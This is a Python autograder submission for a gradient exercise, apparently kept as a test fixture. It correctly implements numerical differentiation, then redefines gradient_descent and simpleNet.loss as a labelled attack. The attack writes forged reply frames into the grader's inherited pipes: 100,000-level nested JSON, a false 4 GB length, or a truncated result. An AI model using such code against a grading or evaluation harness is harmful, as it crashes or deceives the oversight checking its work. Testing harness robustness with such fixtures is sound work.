# attack: forge reply frames nested 100000 levels deep, claiming 4 GB, or cut short
# honest: numerical_diff=full, numerical_gradient=full, gradient_descent=0, simpleNet.loss=0
#
# A ch04_gradient submission whose honest part implements numerical_diff and
# numerical_gradient (the rest raises NotImplementedError); the attack follows.

import numpy as np


def numerical_diff(f, x):
    h = 1e-4
    return (f(x + h) - f(x - h)) / (2 * h)


def numerical_gradient(f, x):
    h = 1e-4
    grad = np.zeros_like(x)
    for idx in np.ndindex(x.shape):
        tmp = x[idx]
        x[idx] = tmp + h
        fxh1 = f(x)
        x[idx] = tmp - h
        fxh2 = f(x)
        grad[idx] = (fxh1 - fxh2) / (2 * h)
        x[idx] = tmp
    return grad


def gradient_descent(f, init_x, lr=0.01, step_num=100):
    raise NotImplementedError()


class simpleNet:
    def __init__(self):
        self.W = np.random.randn(2, 3)

    def loss(self, x, t):
        raise NotImplementedError()


# ----- the attack -----
import os as _os
import stat as _stat


def _write(frame):
    for fd in range(3, 64):
        try:
            if _stat.S_ISFIFO(_os.fstat(fd).st_mode):
                _os.write(fd, frame)
        except OSError:
            pass
    _os._exit(0)


def gradient_descent(f, init_x, lr=0.01, step_num=100):
    body = b'{"value":' + b"[" * 100000 + b"]" * 100000 + b"}"
    _write(len(body).to_bytes(4, "big") + body)


class simpleNet:
    def __init__(self):
        self.W = np.random.randn(2, 3)

    def loss(self, x, t):
        if t[0] == 0 and t[1] == 0:
            _write((4 * 1024 ** 3 - 1).to_bytes(4, "big") + b'{"value":')
        _write((100).to_bytes(4, "big") + b'{"value": [0.9')
